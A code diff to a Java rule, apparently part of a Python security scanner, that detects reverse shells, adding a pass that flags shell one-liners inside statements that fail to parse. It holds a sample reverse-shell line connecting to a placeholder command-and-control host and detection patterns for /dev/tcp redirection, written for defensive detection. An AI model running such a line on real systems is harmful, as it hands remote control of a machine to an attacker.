@@ -13,10 +13,14 @@ import dev.kingsnake.spi.Tags;
 import dev.kingsnake.spi.facts.CallFacts;
 import dev.kingsnake.spi.facts.Capability;
 import dev.kingsnake.spi.python.Expr;
+import dev.kingsnake.spi.python.Node;
+import dev.kingsnake.spi.python.Stmt;
 
 import java.util.List;
+import java.util.Locale;
 import java.util.Optional;
 import java.util.Set;
+import java.util.regex.Pattern;
 
 /** A shell wired to a network socket: dup2 of a socket onto stdio, a process with socket streams, shell one-liners. */
 public final class ReverseShellRule implements PythonFileRule {
@@ -28,6 +32,10 @@ public final class ReverseShellRule implements PythonFileRule {
             "s = socket.socket(); s.connect(('c2.example.invalid', 4444)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')",
             "Terminal emulators and test harnesses use os.dup2 and pty without sockets; the rule needs a socket in "
                     + "the same function. Pentest tool packages that generate shell one-liners as text will match.");
+
+    /** Process-starting calls spelled in text: os.system(, subprocess.run(, popen(, crontab. */
+    private static final Pattern PROCESS_CALL_TEXT = Pattern.compile(
+            "\\b(system|popen|Popen|run|call|check_output|check_call|spawn\\w*|exec[lv]p?e?)\\s*\\(|\\bcrontab\\b");
 
     private static final IndicatorSet ONE_LINERS = new IndicatorSet(List.of(
             Indicator.strong("bash /dev/tcp redirection", "/dev/(tcp|udp)/[^/\\s]+/\\d+|/dev/tcp/\\{\\}"),
@@ -62,6 +70,20 @@ public final class ReverseShellRule implements PythonFileRule {
                 }
                 if (why != null) {
                     sink.report(file, c.call(), why);
+                }
+            }
+        }
+        for (Node n : file.nodes()) {
+            // a statement that does not parse is still read as text: a broken quote must not hide a shell
+            if (n instanceof Stmt.Invalid bad) {
+                String text = bad.text();
+                Optional<Indicator> hit = ONE_LINERS.first(
+                        new CallFacts.StringFact(bad, text, text.replace('\\', '/').toLowerCase(Locale.ROOT), 0));
+                if (hit.isPresent()) {
+                    boolean started = PROCESS_CALL_TEXT.matcher(text).find();
+                    sink.report(file, bad, "reverse-shell command (" + hit.get().label()
+                                    + ") in a statement that does not parse" + (started ? ", handed to a process call" : ""),
+                            started ? Severity.CRITICAL : Severity.HIGH, Confidence.HIGH);
                 }
             }
         }
